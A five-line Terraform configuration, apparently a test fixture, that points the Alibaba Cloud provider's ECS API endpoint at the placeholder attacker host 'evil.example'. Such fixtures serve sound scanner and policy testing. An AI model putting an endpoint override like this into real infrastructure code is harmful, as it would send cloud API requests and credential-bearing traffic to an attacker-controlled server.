provider "alicloud" {
  endpoints {
    ecs = "evil.example"
  }
}
